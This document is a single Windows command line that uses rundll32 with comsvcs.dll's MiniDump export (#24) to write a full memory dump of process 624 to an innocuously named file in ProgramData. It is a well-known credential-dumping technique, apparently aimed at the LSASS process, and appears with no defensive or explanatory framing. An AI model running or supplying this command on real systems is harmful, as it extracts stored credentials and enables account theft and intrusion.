rundll32 C:\windows\system32\comsvcs.dll #24 624 C:\ProgramData\x.bin full
